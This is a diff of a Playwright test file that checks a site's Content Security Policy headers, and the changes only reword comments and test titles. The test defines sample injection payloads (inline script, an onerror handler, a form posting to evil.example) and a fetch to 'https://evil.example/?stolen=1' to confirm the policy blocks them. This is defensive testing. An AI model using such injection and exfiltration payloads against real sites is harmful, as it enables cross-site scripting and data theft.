@@ -2,7 +2,7 @@ import { readFileSync } from 'node:fs';
 import { allowErrors, expect, test } from './fixtures.ts';
 import { routes } from './routes.ts';
 
-// Every other test fails when its page breaks the policy: Chromium logs that as an error.
+// All other tests fail when a page violates the policy, because Chromium logs that as an error.
 
 const { hosting } = JSON.parse(readFileSync('firebase.json', 'utf8')) as {
   hosting: { headers: { headers: { key: string; value: string }[] }[] };
@@ -11,7 +11,7 @@ const configured = Object.fromEntries(
   hosting.headers[0]!.headers.map(({ key, value }) => [key.toLowerCase(), value]),
 );
 
-test('every address is served with the configured headers, and pictures may be shown elsewhere', async ({
+test('every URL is served with the configured headers, and other sites can embed pictures', async ({
   request,
 }) => {
   for (const path of [...routes.map((route) => route.path), '/nothing-here', '/survey/youth.json'])
@@ -25,7 +25,7 @@ test('every address is served with the configured headers, and pictures may be s
 
 const evil = 'https://evil.example';
 
-/** What a hole in a page might let in, and the directive that stops it. */
+/** What an injection could do, and the directive that blocks it. */
 const injected: [html: string, violation: string][] = [
   ['<script>window.isBroken = true</script>', 'script-src-elem: inline'],
   ['<img src="data:," onerror="window.isBroken = true">', 'script-src-attr: inline'],
@@ -39,7 +39,7 @@ const injected: [html: string, violation: string][] = [
   [`<form name="evil" action="${evil}/a"></form>`, `form-action: ${evil}/a`],
 ];
 
-test('what is injected into a page is blocked', async ({ page, pageErrors }) => {
+test('injected code is blocked', async ({ page, pageErrors }) => {
   const violations: string[] = [];
   await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
   await page.addInitScript(() => {
@@ -61,7 +61,7 @@ test('what is injected into a page is blocked', async ({ page, pageErrors }) => 
     document.body.append(script);
     const sent = await fetch('https://evil.example/?stolen=1').then(String, () => 'refused');
     const isBroken = 'isBroken' in window;
-    // Later, because a page whose form was blocked answers no more questions.
+    // Last, because a page whose form was blocked no longer responds.
     setTimeout(() => document.forms.namedItem('evil')?.submit());
     return { sent, isBroken };
   });
